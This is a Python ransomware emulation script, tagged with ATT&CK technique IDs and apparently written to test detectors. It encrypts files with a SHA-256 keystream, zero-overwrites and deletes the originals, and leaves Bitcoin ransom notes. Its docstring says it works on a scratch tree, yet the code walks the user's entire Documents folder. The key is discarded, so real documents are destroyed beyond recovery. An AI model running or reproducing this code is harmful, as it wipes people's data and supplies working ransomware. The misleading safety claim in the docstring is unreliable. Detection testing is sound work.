# technique: T1486 T1083 T1485
"""Data encrypted for impact over a file tree (T1486, T1083).

Python ransomware (e.g. the many "PyLocky"-like samples) walks the user's
files with os.walk, reads each document, encrypts it (here: a keystream from
hashlib.sha256 in counter mode XORed over the data, since no crypto library
is in the standard library), writes <name>.locked, securely overwrites and
deletes the original, and drops a README ransom note in every directory.
Works on a scratch tree it creates under HOME/Documents.

A good detector raises a high alert: many files are read, rewritten under a
new extension and the originals deleted in a short time.
"""
import hashlib, os, secrets

root = os.path.join(os.path.expanduser("~"), "Documents")
for i in range(30):
    d = os.path.join(root, f"proj{i % 4}"); os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, f"report{i}.docx"), "wb") as f:
        f.write(os.urandom(2048))

key = secrets.token_bytes(32)
def keystream(n, nonce):
    out = bytearray(); c = 0
    while len(out) < n:
        out += hashlib.sha256(key + nonce + c.to_bytes(8, "big")).digest(); c += 1
    return bytes(out[:n])

for dirpath, _, files in os.walk(root):
    for name in files:
        if name.endswith((".locked", ".txt")):
            continue
        p = os.path.join(dirpath, name)
        data = open(p, "rb").read(); nonce = os.urandom(12)
        with open(p + ".locked", "wb") as f:
            f.write(nonce + bytes(a ^ b for a, b in zip(data, keystream(len(data), nonce))))
        with open(p, "r+b") as f:
            f.write(b"\0" * len(data))
        os.remove(p)
    with open(os.path.join(dirpath, "README_RESTORE_FILES.txt"), "w") as f:
        f.write("Your files are encrypted. Send 0.1 BTC to ...\n")
